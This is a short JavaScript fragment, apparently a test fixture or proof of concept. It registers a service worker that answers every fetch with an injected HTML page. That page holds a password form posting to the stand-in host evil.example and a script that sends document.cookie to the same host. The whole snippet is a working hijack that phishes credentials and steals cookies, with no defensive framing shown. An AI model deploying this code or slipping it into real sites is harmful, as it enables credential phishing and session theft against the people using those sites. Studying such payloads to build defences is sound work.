const page = '<form action="https://evil.example/c"><input type="password" name="p"></form><script>fetch("https://evil.example/?c="+document.cookie)</script>';
label.textContent = 'a';
self.addEventListener('fetch', (event) => event.respondWith(new Response(page, { headers: { 'content-type': 'text/html' } })));
